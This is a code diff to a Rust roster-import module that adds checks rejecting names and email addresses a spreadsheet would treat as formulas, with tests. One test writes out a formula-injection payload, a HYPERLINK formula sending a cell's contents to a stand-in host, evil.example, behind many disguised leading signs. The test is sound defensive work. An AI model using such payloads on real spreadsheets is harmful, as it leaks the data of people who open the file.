@@ -15,6 +15,8 @@ use lodge_core::name::{Address, DisplayName, clean_line};
 use lodge_core::roster::{Entry, MailAddress};
 use lodge_core::time::Timestamp;
 
+use crate::cells::is_formula;
+
 /// People as a file lists them, each with the line that they stand on.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct Sheet {
@@ -205,10 +207,10 @@ fn cells(record: &ByteRecord, columns: &[Column]) -> Result<BTreeMap<Column, Str
 /// The person on a line, or all that is wrong with it.
 fn entry(cells: &BTreeMap<Column, String>, zone: &TimeZone) -> Result<Entry, Vec<String>> {
     let mut wrong = Vec::new();
-    let mail = read_cell(cells, Column::Email, &mut wrong, |value| MailAddress::parse(value).map_err(text_of));
+    let mail = read_cell(cells, Column::Email, &mut wrong, mail);
     let address = read_cell(cells, Column::MatrixId, &mut wrong, |value| Address::typed(value).map_err(text_of));
     let until = read_cell(cells, Column::ValidUntil, &mut wrong, |value| last_day(value, zone));
-    let name = read_cell(cells, Column::Name, &mut wrong, |value| DisplayName::parse(value).map_err(text_of));
+    let name = read_cell(cells, Column::Name, &mut wrong, name);
     let role = read_cell(cells, Column::Role, &mut wrong, role);
     let cohort = read_cell(cells, Column::Cohort, &mut wrong, short);
     let mut details = BTreeMap::new();
@@ -244,6 +246,30 @@ fn read_cell<T>(
             None
         }
     }
+}
+
+/// An address that is the same in a letter as in the list.
+fn mail(value: &str) -> Result<MailAddress, String> {
+    let mail = MailAddress::parse(value).map_err(text_of)?;
+    if is_formula(mail.as_str()) {
+        return Err(format!(
+            "\"{}\" is what spreadsheets take for a formula; expected an address that begins with a letter or a digit",
+            shortened(value)
+        ));
+    }
+    Ok(mail)
+}
+
+/// A name that spreadsheets show and do not compute: whatever is made of the list may be opened in one.
+fn name(value: &str) -> Result<DisplayName, String> {
+    let name = DisplayName::parse(value).map_err(text_of)?;
+    if is_formula(name.as_str()) {
+        return Err(format!(
+            "expected a name, found \"{}\", which spreadsheets take for a formula; write the name without the sign at its beginning",
+            shortened(value)
+        ));
+    }
+    Ok(name)
 }
 
 /// The roles that can be listed.
@@ -363,6 +389,16 @@ mod tests {
                  alphabet",
             ),
             (
+                "Sam,=sam@mail.example,,student,,",
+                "email: \"=sam@mail.example\" is what spreadsheets take for a formula; expected an address that begins with \
+                 a letter or a digit",
+            ),
+            (
+                "=1+1,sam@mail.example,,student,,",
+                "name: expected a name, found \"=1+1\", which spreadsheets take for a formula; write the name without the \
+                 sign at its beginning",
+            ),
+            (
                 "Sam,sam@mail.example,,student,,30/06/2027",
                 "valid_until: expected a date such as 2027-06-30, found \"30/06/2027\"",
             ),
@@ -393,6 +429,24 @@ mod tests {
         latin.extend(b"\xe9,\n");
         let named = read(&latin, &TimeZone::UTC).unwrap_err();
         assert_eq!(named, [bad_line(2, "organisation: not UTF-8; save the file as CSV UTF-8")]);
+    }
+
+    #[test]
+    fn no_name_is_a_formula_to_a_spreadsheet() {
+        for sign in
+            ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", " =", "\u{a0}+", "\u{200b}@", "\r\n=", "−", "﹣"]
+        {
+            let cell = format!("{sign}HYPERLINK(\"\"http://evil.example/?c=\"\"&D2)");
+            let named = read_text(&format!(
+                "name,email,role\nNoor,n@mail.example,student\n\"{cell}\",s@mail.example,student\n"
+            ));
+            let [BadLine { line: 3, what }] = &named.unwrap_err()[..] else { panic!("{cell}") };
+            assert!(what.contains("which spreadsheets take for a formula"), "{what}");
+        }
+        for name in ["Anne-Marie", "Jean-", "O’Brien", "'Afa", "Sam (=Pat)"] {
+            let sheet = read_text(&format!("name,email,role\n{name},s@mail.example,student\n")).unwrap();
+            assert_eq!(sheet.entries[0].name.as_str(), name);
+        }
     }
 
     #[test]
